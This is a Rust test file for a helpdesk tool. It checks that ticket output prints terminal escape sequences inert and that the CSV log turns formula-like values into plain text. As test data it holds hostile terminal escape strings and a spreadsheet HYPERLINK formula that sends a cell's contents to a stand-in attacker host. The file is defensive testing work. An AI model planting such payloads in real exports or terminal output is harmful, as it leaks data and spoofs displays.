//! What the admin's tools print of people's text, through the real binary: escape sequences
//! in a ticket's fields print inert on the terminal, and the CSV complaint log writes
//! formula-like names and places as text a spreadsheet will not run.

#[path = "common/db.rs"]
mod db;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;

use sea_orm::DatabaseConnection;
use sigap::clock::SystemClock;
use sigap::domain::role::Role;
use sigap::domain::ticket::{Category, Channel};
use sigap::service::{Helpdesk, NewReport};
use sigap::store::directory::{self, NewOrg, NewPerson, OrgKind};

const HOSTILE_PLACE: &str = "\x1b[2J\x1b[31mRUANG SERVER\x1b]0;pwned\x07";

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn sigap(dir: &Path, url: &str, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_sigap"))
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("DATABASE_URL", url)
        .env("DATA_DIR", dir.join("data"))
        .env("SIGAP_CONFIG_DIR", repo().join("config"))
        .env("RUST_LOG", "warn")
        .output()
        .unwrap()
}

/// A reporter named `name` of an organisation named `org` files a ticket at `place`, through
/// the library: the channels clean control characters at the edge, but a name typed by the
/// admin, an imported organisation or an older row holds whatever it holds.
async fn ticket(db: &DatabaseConnection, dir: &Path, name: &str, org: &str, place: &str, description: &str) -> String {
    let now = chrono::Utc::now();
    let code = "DINKES";
    directory::import_orgs(db, &[NewOrg { code: code.into(), name: org.into(), kind: OrgKind::Opd }], now)
        .await
        .unwrap();
    let person = NewPerson {
        name: name.into(),
        org_code: Some(code.into()),
        locale: "id".into(),
        roles: vec![Role::Reporter],
        identities: vec![(Channel::Telegram, "5".into())],
    };
    let reporter = directory::add_person(db, &person, now).await.unwrap();
    let loaded = sigap::config::load_sop("kudus", &repo().join("config")).unwrap();
    let desk = Helpdesk::new(db.clone(), Arc::new(loaded), Arc::new(SystemClock), dir.join("data"));
    let created = desk
        .report(NewReport {
            reporter_id: reporter.id,
            channel: Channel::Telegram,
            org_id: None,
            location: Some(place.into()),
            category: Category::InternetDown,
            description: description.into(),
            srikandi_number: None,
            attachments: Vec::new(),
        })
        .await
        .unwrap();
    created.number.to_string()
}

#[tokio::test]
async fn ticket_show_and_list_print_escape_sequences_in_peoples_text_inert() {
    let (url, _db_dir) = db::fresh_database().await;
    let dir = tempfile::tempdir().unwrap();
    let db = sigap::store::connect(&url).await.unwrap();
    sigap::store::migrate(&db).await.unwrap();
    let number = ticket(
        &db,
        dir.path(),
        "Sari\x1b[8m",
        "Dinkes\u{9b}31m\u{202E}",
        HOSTILE_PLACE,
        "Internet mati\nsejak pagi\x1b[A\x1b[2K",
    )
    .await;
    let stored = sigap::store::tickets::list(&db, None, 1).await.unwrap();
    assert_eq!(stored[0].location.as_deref(), Some(HOSTILE_PLACE), "kept as it came");

    let show = sigap(dir.path(), &url, &["ticket", "show", &number]);
    let list = sigap(dir.path(), &url, &["ticket", "list"]);

    for out in [&show, &list] {
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let printed = &out.stdout;
        assert!(!printed.contains(&0x1b) && !printed.contains(&0x07), "an ESC or BEL reached the terminal");
        let text = String::from_utf8(printed.clone()).unwrap();
        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
        assert!(!text.contains('\u{202E}'), "{text:?}");
    }
    let text = String::from_utf8(show.stdout).unwrap();
    assert!(text.contains("\\u{1b}[2J\\u{1b}[31mRUANG SERVER\\u{1b}]0;pwned\\u{7}"), "{text}");
    assert!(text.contains("Sari\\u{1b}[8m"), "{text}");
    assert!(text.contains("Internet mati\nsejak pagi\\u{1b}[A"), "the description keeps its lines: {text}");
    let text = String::from_utf8(list.stdout).unwrap();
    assert!(text.contains("Dinkes\\u{9b}31m\\u{202e}"), "{text}");
}

#[tokio::test]
async fn the_csv_log_writes_formula_like_names_and_places_as_text() {
    let (url, _db_dir) = db::fresh_database().await;
    let dir = tempfile::tempdir().unwrap();
    let db = sigap::store::connect(&url).await.unwrap();
    sigap::store::migrate(&db).await.unwrap();
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";
    let org = "+62-Dinkes";
    let place = "@SUM(A1:A9)";
    let number = ticket(&db, dir.path(), name, org, place, "-2+3 ruang rapat").await;
    let today = chrono::Utc::now().with_timezone(&chrono_tz::Asia::Jakarta).date_naive().to_string();
    let path = dir.path().join("log.csv");

    let out =
        sigap(dir.path(), &url, &["report", "log", "--from", &today, "--to", &today, "--out", path.to_str().unwrap()]);

    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let mut reader = csv::Reader::from_path(&path).unwrap();
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |header: &str| row.get(headers.iter().position(|h| h == header).unwrap()).unwrap().to_owned();
    assert_eq!(row.get(0), Some(number.as_str()));
    assert_eq!(cell("Pelapor"), format!("'{name}"));
    assert_eq!(cell("Instansi"), format!("'{org}"));
    assert_eq!(cell("Lokasi"), format!("'{place}"));
    for value in row.iter() {
        assert!(!value.starts_with(['=', '+', '@', '\t', '\r']), "a live formula: {value}");
        assert!(value == "-" || !value.starts_with('-'), "a live formula: {value}");
    }
}
